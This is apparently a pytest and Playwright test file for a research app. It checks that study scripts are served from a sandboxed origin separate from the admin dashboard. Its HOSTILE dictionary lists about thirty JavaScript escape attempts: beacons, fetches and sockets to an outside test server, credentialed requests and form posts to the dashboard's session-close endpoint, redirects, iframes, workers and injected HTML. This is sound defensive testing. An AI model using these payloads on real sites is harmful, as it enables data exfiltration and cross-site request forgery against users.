"""Stories of the origin on which studies with scripts are played, and of a hostile script that can't leave its page."""

from __future__ import annotations

import http.server
import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Page, expect

from app.config import ConfigError, read_config
from tests.house.house import House, Opened
from tests.house.scripts import scripted
from tests.house.shell import Shell, is_refused
from tests.house.stage import Stage, log_in
from tests.house.waits import apart

BROWSER = {"Accept": "text/html"}
# What a script might try, with the address of a server elsewhere and that of the dashboard. Each is let run to its end.
HOSTILE = {
    "ask elsewhere": "fetch(`${there}/a`, {mode: 'no-cors'})",
    "ask the dashboard": "fetch(`${admin}/admin`, {mode: 'no-cors', credentials: 'include'})",
    "ask the dashboard here": "fetch('/admin', {credentials: 'include'})",
    "close the session": "fetch(`${admin}${session}/close`, {method: 'POST', mode: 'no-cors', credentials: 'include'})",
    "send a beacon": "navigator.sendBeacon(`${there}/b`, 'x')",
    "load a picture": "new Image().src = `${there}/c.png`",
    "load a style": "document.head.append(Object.assign(document.createElement('link'), "
    "{rel: 'stylesheet', href: `${there}/d.css`}))",
    "fetch ahead": "document.head.append(Object.assign(document.createElement('link'), "
    "{rel: 'prefetch', href: `${there}/e`}))",
    "load a script": "import(`${there}/f.js`)",
    "load a font": "new FontFace('x', `url(${there}/g.woff2)`).load()",
    "open a socket": "new WebSocket(`${there.replace('http', 'ws')}/h`)",
    "listen elsewhere": "new EventSource(`${there}/i`)",
    "frame it": "document.body.append(Object.assign(document.createElement('iframe'), {src: `${there}/j`}))",
    "frame the dashboard": "document.body.append(Object.assign(document.createElement('iframe'), "
    "{src: `${admin}/admin`}))",
    "open a window": "window.open(`${there}/k`)",
    "lead away": "location.href = `${there}/l`",
    "lead away for good": "location.replace(`${there}/m`)",
    "lead away by a link": "document.body.appendChild(Object.assign(document.createElement('a'), "
    "{href: `${there}/n`})).click()",
    "lead away by a link into another window": "document.body.appendChild(Object.assign("
    "document.createElement('a'), {href: `${there}/o`, target: '_blank'})).click()",
    "lead away in a while": "document.head.append(Object.assign(document.createElement('meta'), "
    "{httpEquiv: 'refresh', content: `0;url=${there}/p`}))",
    "lead away from a frame": "document.body.appendChild(document.createElement('iframe'))"
    ".contentWindow.top.location = `${there}/q`",
    "send a form": "sendForm(`${there}/r`, 'get')",
    "send a form to the dashboard": "sendForm(`${admin}${session}/close`, 'post')",
    "take back the guard": "Event.prototype.preventDefault = () => {}; location.href = `${there}/s`",
    "say that it is elsewhere": "document.querySelector('meta[name=networklab-sites]').content = there; "
    "location.href = `${there}/t`",
    "call somebody": "call(window)",
    "call somebody from a frame": "document.body.appendChild(document.createElement('iframe')); call(window[0])",
    "call somebody from a hidden frame": "const host = document.body.appendChild(document.createElement('p')); "
    "host.attachShadow({mode: 'closed'}).appendChild(document.createElement('iframe')); call(window[0])",
    "work beside the page": "new Worker(URL.createObjectURL(new Blob([`fetch('${there}/u')`])))",
    "stay for ever": "navigator.serviceWorker.register(document.querySelector('script[src*=own]').src)",
    "write into the page": "document.body.insertAdjacentHTML('beforeend', "
    "`<img src=x onerror=\"fetch('${there}/v')\"><style>body { background: url(${there}/w) }</style>`)",
}
TOOLS = """window.calls = 0;
window.call = (view) => {
    new view.RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:9" }] });
    window.calls += 1;
};
window.sendForm = (action, method) => {
    document.body.appendChild(Object.assign(document.createElement("form"), { action, method })).submit();
};"""


@pytest.fixture
def session(shared: House, tmp_path: Path) -> Opened:
    return shared.open_folder(scripted(tmp_path), {"player": 1})


@contextmanager
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """The address of another server, and what it was asked for."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


def test_a_study_with_scripts_is_played_where_there_is_no_dashboard(shared: House, session: Opened) -> None:
    base = shared.servers[0].base
    play = f"http://127.0.0.1:{shared.servers[0].port + 1}"
    address = f"/join/{session.tokens['P1']}"
    sent = httpx.get(f"{base}{address}?a=b", headers=BROWSER)
    assert (sent.status_code, sent.headers["location"]) == (303, f"{play}{address}?a=b")
    with httpx.Client(base_url=play, follow_redirects=True, headers=BROWSER) as player:
        page = player.post(address)
        assert page.url == f"{play}/play"
        assert "sandbox" in page.headers["content-security-policy"]
        (script,) = set(re.findall(r'<script src="(/play/files/[^"]+)"></script>', page.text))
        answer = player.get(script)
        assert answer.headers["content-type"].startswith("text/javascript")
        assert "immutable" in answer.headers["cache-control"]
        for path in ("/admin", "/admin/login", "/admin/sessions", "/metrics", "/dev"):
            assert player.get(path).status_code == 404, path
        assert player.post("/admin/login", data={"name": "grace"}).status_code == 404
        assert player.get("/play").status_code == player.get("/health/live").status_code == 200
    # The same script is not sent to the origin of the dashboard, and its page there has none.
    assert httpx.get(f"{base}{script}").status_code == 404
    assert httpx.get(f"{base}/admin/login").status_code == 200
    plain = shared.open()
    assert httpx.get(f"{base}/join/{plain.tokens['R1']}", headers=BROWSER).status_code == 200


def test_an_address_of_its_own_is_told_by_its_host(house: House, tmp_path: Path) -> None:
    session = house.open_folder(scripted(tmp_path), {"player": 1})

    base = house.serve(
        NETWORKLAB_URL="https://lab.example", NETWORKLAB_PLAY_URL="https://play.lab.example"
    ).base
    address = f"/join/{session.tokens['P1']}"
    sent = httpx.get(base + address, headers=BROWSER | {"Host": "lab.example"})
    assert sent.headers["location"] == f"https://play.lab.example{address}"
    there = BROWSER | {"Host": "play.lab.example"}
    assert httpx.get(base + address, headers=there).status_code == 200
    assert httpx.get(f"{base}/admin/login", headers=there).status_code == 404


def test_the_address_must_be_another_than_the_dashboards() -> None:
    assert read_config({}).play_url == "http://127.0.0.1:8001"
    assert read_config({"PORT": "9000"}).play_url == "http://127.0.0.1:9001"
    assert read_config({"NETWORKLAB_URL": "https://lab.example"}).play_url is None
    with pytest.raises(ConfigError, match="another host or port than NETWORKLAB_URL"):
        read_config({"NETWORKLAB_URL": "https://lab.example", "NETWORKLAB_PLAY_URL": "https://lab.example/"})


def test_no_session_is_opened_whose_scripts_could_run_nowhere(shared: House, tmp_path: Path) -> None:
    folder = scripted(tmp_path / "study")
    shell = Shell(shared, shared.folder)
    said = is_refused(shell.type("open", str(folder), "--door", NETWORKLAB_URL="https://lab.example"))
    assert "Set NETWORKLAB_PLAY_URL" in said


@pytest.mark.browser
def test_a_hostile_script_does_not_leave_its_page(stage: Stage, tmp_path: Path) -> None:
    stage.bear("")  # the browser reports each try
    session = apart(lambda: stage.house.open_folder(scripted(tmp_path), {"player": 1}))
    page = stage.page()
    log_in(stage, page)  # the researcher plays, in the browser in which they are logged in
    page.goto(stage.link(session, "P1"))
    page.get_by_role("button", name="Come in").click()
    expect(page.locator("#drawn")).to_have_text("drawn null")
    assert page.evaluate("fetch('/play').then((answer) => answer.status)") == 200
    assert "networklab" not in page.evaluate("document.cookie")
    with elsewhere() as (there, asked):
        assert httpx.get(f"{there}/premise").status_code == 204
        page.evaluate(TOOLS)
        for name, code in HOSTILE.items():
            _try(page, code, there, stage.server.base, f"/admin/sessions/{session.id}")
            assert page.url.endswith("/play"), name
            assert asked == ["/premise"], name
        assert page.context.pages == [page]
        assert page.evaluate("calls") == 0
    status = apart(lambda: stage.house.sql("select status from session where id = %s", session.id))
    assert status == [("running",)]
    page.goto(f"{stage.server.base}/admin")  # and whoever goes there is still logged in
    expect(page.get_by_text("Scripted").first).to_be_visible()


def _try(page: Page, code: str, there: str, admin: str, session: str) -> None:
    """Runs it in the page; what it led to is over once the page has been asked for after it."""
    page.evaluate(
        f"""async ([there, admin, session]) => {{
            try {{ {code} }} catch {{}}
            await fetch("/play");
            await new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
            await fetch("/play");
        }}""",
        [there, admin, session],
    )
